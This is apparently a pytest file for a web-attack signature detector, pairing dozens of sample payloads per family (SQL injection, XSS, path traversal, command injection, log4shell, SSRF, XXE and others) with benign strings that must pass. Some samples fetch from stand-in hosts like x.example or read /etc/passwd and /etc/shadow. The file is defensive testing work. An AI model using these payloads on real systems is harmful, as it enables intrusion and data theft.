"""Signature rules: what each family finds, what ordinary text is left alone, and what is said about it."""

import pickle

import numpy as np
import polars as pl
import pytest
from sklearn.base import clone
from sklearn.exceptions import NotFittedError

from utils.detectors.rules.signatures import AGENT_FAMILIES, FAMILIES, Signatures
from utils.errors import SchemaError
from utils.features.web_events import EventColumns
from utils.simulate import waf_events, waf_payloads

ATTACKS = {
    "sqli": (
        "1' or '1'='1", "1 UnIoN/**/SeLeCt 1,2,3", "1%27%20or%201%3D1--", "1; drop table users", "1) and sleep(5)#",
        "' or ''='", "x'; exec master..xp_cmdshell 'dir'--", "1 and (select count(*) from information_schema.tables)>0",
        "admin'--", "1 waitfor delay '0:0:5'", "%2527 union all select null,null--", "1' order by 3#",
    ),
    "xss": (
        "<script>alert(1)</script>", "&lt;img src=x onerror=alert(1)&gt;", "javascript:alert(1)",
        "\\u003csvg onload=x>", '" onmouseover="alert(1)', "<iframe src=//evil.example>", "%253Cscript%253E",
        "\"><b onclick='f()'>",
    ),
    "path-traversal": (
        "../../../etc/passwd", "..%2f..%2f..%2fboot.ini", "..%c0%af..%c0%af..%c0%af", "....//....//....//x",
        "/etc/shadow", "c:\\windows\\win.ini", "file:///etc/hosts", "..\\..\\..\\x", "/.git/config",
    ),
    "cmdi": ("; cat /etc/x", "|id", "`id`", "$(whoami)", "&& ls -la", "a;wget http://x.example/a", "() { :;}; /bin/id"),
    "ssi": ('<!--#exec cmd="ls"-->', '<!-- #include virtual="/x" -->'),
    "xxe": ('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]>', '<xi:include href="x"/>'),
    "ldap": ("*)(uid=*", "a)(&(objectClass=*)", "(|(cn=a*)(sn=b))"),
    "nosqli": ('{"$ne": null}', "a[$gt]=1&[$ne]=1", "'; return this.a == 'b'", "db.users.find({})"),
    "crlf": ("a%0d%0aSet-Cookie: b=1", "x%0aLocation: http://y.example"),
    "code": ("<?php echo 1;", "${T(java.lang.Runtime)}", "__import__('os')", 'O:4:"User":1', "system('id')"),
    "ssti": ("{{7*7}}", "${7*7}", "{% for a in b %}"),
    "log4shell": ("${jndi:ldap://x.example/a}", "${${lower:j}ndi:rmi://x}", "%24%7Bjndi%3Adns%3A//x%7D"),
    "rfi": ("php://input", "http://x.example/shell.txt?", "data://text/plain;base64,AA", "\\\\10.9.9.9\\share\\x.php"),
    "ssrf": ("http://127.0.0.1:22/", "http://169.254.169.254/latest", "gopher://x:70/_a", "http://[::1]/"),
    "scanner": ("/phpmyadmin/index.php?acunetix", "/wp-login.php.bak"),
}  # fmt: skip
ORDINARY = (
    "O'Brien", "Conan O'Brien and O'Neil", "D'Angelo, \"The King\"", "rock 'n' roll", "it's 5 o'clock -- see you",
    "please select one from the list", "select all that apply (or none)", "the union will select where and when",
    "the European Union selected members", "drop me a line; update your profile", "Order by Friday, group by colour",
    "AT&T", "fish & chips; salt, pepper & more", "Tom & Jerry", "100% cotton; size > 40", "x < y and y > z", "I <3 you",
    "if (a == 1 and b == 2) then print('x')", "for i in range(10): print(i)", "if (a <> 3) then b := 'c';", "C# and F#",
    "https://www.example.com/index.php?id=3&ref=4", "user@example.com", '{"name": "O\'Hara", "tags": ["a", "b"]}',
    "Mozilla/5.0 (Windows NT 10.0; Win64)", "../img/logo.png", "../../img/logo.png", "<b>bold</b> and <i>it</i>",
    '<a href="https://example.com/">shop</a>', "git log --oneline | head -5", "cat a.txt | sort > b.csv", "call 1 or 2",
    "sleep well (really)", "alert the staff (please)", "Name: Ann\nCity: Rome", "2012-01-01 -- 2013-01-01", "ñandú 🙂",
    "a1b2c3d4e5f60718293a4b5c6d7e8f90", "dGhpcyBpcyBiYXNlNjQ+/w==", "", "-5", "C:\\Users\\ann\\a.txt", "1 and a half",
    "online = yes; once = no", "the cat; the dog | the id", "Is it? (yes) -- no", "price: $5.00 | total: 15",
)  # fmt: skip
PAIRS = [(family, text) for family, texts in ATTACKS.items() for text in texts]


@pytest.fixture(scope="module")
def rules():
    return Signatures().fit(pl.DataFrame({"payload": ["a"]}))


def payloads(*texts):
    return pl.DataFrame({"payload": texts}, schema={"payload": pl.String})


@pytest.mark.parametrize(("family", "text"), PAIRS, ids=[f"{family} {text[:24]}" for family, text in PAIRS])
def test_attacks_are_found_and_named(rules, family, text):
    frame = payloads(text)
    assert rules.score_samples(frame)[0] >= 1
    assert rules.families(frame).row(0, named=True)[family]
    assert f"{family}: " in rules.explain(frame)[0]


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_is_left_alone(rules, text):
    assert rules.score_samples(payloads(text))[0] < 1
    assert not any(rules.families(payloads(text)).row(0))


def test_every_family_has_an_example_and_every_signature_a_sound_weight():
    assert set(ATTACKS) == set(FAMILIES)
    assert set(AGENT_FAMILIES) <= set(FAMILIES)
    for signatures in (*FAMILIES.values(), *AGENT_FAMILIES.values()):
        assert all(0 < signature.weight <= 1 for signature in signatures)
        names = [signature.name for signature in signatures]
        assert len(set(names)) == len(names)


def test_the_sentence_names_family_pattern_field_and_excerpt(rules):
    sentence, nothing, hint = rules.explain(
        payloads("1%27 UNION/**/SELECT 1,2--", "hello", "please select one from the list")
    )
    assert sentence.startswith("Score 2.0, an attack: sqli: UNION SELECT of values in payload «union select 1»")
    assert nothing == "No signature matches (score 0)."
    assert hint.startswith("Score 0.5, below the 1 of an attack: sqli: query in payload")
    assert "payload match signatures" in rules.sentence_


def test_matches_carry_pattern_and_excerpt(rules):
    (found,) = rules.matches(payloads("x" * 50 + "<script>" + "y" * 200))
    assert found[0].family == "xss"
    assert found[0].pattern in {signature.pattern for signature in FAMILIES["xss"]}
    assert found[0].excerpt == "<script>"
    assert all(len(match.excerpt) <= 60 for match in found)


def test_more_families_score_more(rules):
    one, two = rules.score_samples(payloads("<script>", "<script> ../../../etc/passwd"))
    assert two >= one + 1
    assert rules.score_samples(payloads("' or 1=1 union all select null,null from x -- " * 50))[0] < 8


def test_agents_and_names_are_compared_too():
    frame = pl.DataFrame(
        {
            "MATCHED_VARIABLE_VALUE": ["a", "a", "a", None, "a"],
            "MATCHED_VARIABLE_NAME": ["id", "id", "REQUEST_GET_ARGS.a' or '1'='1", None, "id"],
            "CLIENT_USERAGENT": ["Mozilla/5.0 (X11; Linux) Gecko/1", "sqlmap/1.2", "curl/7.1", None, "junk"],
        }
    )
    rules = Signatures().fit(frame)
    assert rules.score_samples(frame) == pytest.approx([0, 1, 1.7, 0, 0.4], abs=1e-9)
    assert rules.families(frame)["scanner"].to_list() == [False, True, False, False, False]
    assert rules.families(frame)["sqli"].to_list() == [False, False, True, False, False]
    assert "agent of an attack tool in CLIENT_USERAGENT «sqlmap»" in rules.explain(frame)[1]
    assert "malformed user agent in CLIENT_USERAGENT «junk»" in rules.explain(frame)[4]


def test_one_row_scores_as_many_do():
    events = waf_events.simulate_events(1_000, np.random.default_rng(21))
    rules = Signatures().fit(events)
    scores = rules.score_samples(events)
    assert scores.dtype == np.float64
    assert [rules.score_samples(events[row])[0] for row in range(0, 1_000, 20)] == scores[::20].tolist()
    assert (rules.families(events).sum_horizontal().to_numpy() > 0).sum() <= (scores >= 1).sum()
    explained = rules.explain(events)
    assert [sentence == "No signature matches (score 0)." for sentence in explained] == (scores == 0).tolist()
    assert rules.score_samples(events.clear()).shape == (0,)
    assert rules.explain(events.clear()) == []
    assert rules.families(events.clear()).columns == list(FAMILIES)


def test_simulated_attacks_are_found_and_ordinary_values_are_not(rules):
    rng = np.random.default_rng(77)
    scores = rules.score_samples(payloads(*waf_payloads.benign(rng, 2_000).tolist()))
    assert (scores >= 1).mean() < 0.01
    for family in waf_payloads.FAMILIES:
        scores = rules.score_samples(payloads(*waf_payloads.attacks(family, rng, 150).tolist()))
        assert (scores >= 1).mean() > 0.75, family


def test_large_and_odd_texts_are_bounded(rules):
    middle = "a" * 400_000 + "<script>" + "a" * 400_000
    end = "a" * 900_000 + "<script>"
    scores = rules.score_samples(payloads(None, "\0", "🙂", "%" * 1000, middle, end, "' or " * 200_000))
    assert scores[0] == scores[1] == scores[2] == 0
    assert scores[5] >= 1
    assert np.isfinite(scores).all()
    assert rules.score_samples(pl.DataFrame({"payload": [None, None]})).tolist() == [0, 0]


def test_copies_and_other_columns():
    frame = pl.DataFrame({"query": ["<script>"], "ua": ["nikto/2"]})
    rules = clone(Signatures(EventColumns(("query",), agent="ua"))).fit(frame)
    assert pickle.loads(pickle.dumps(rules)).score_samples(frame) == rules.score_samples(frame)
    assert rules.families(frame).row(0, named=True)["scanner"]
    with pytest.raises(SchemaError, match="must have the column 'ua'"):
        rules.score_samples(frame.drop("ua"))
    with pytest.raises(SchemaError, match="must have a text column"):
        Signatures().fit(pl.DataFrame({"x": ["a"]}))
    with pytest.raises(NotFittedError, match="call fit first"):
        Signatures().score_samples(frame)
    with pytest.raises(NotFittedError, match="call fit first"):
        Signatures().explain(frame)
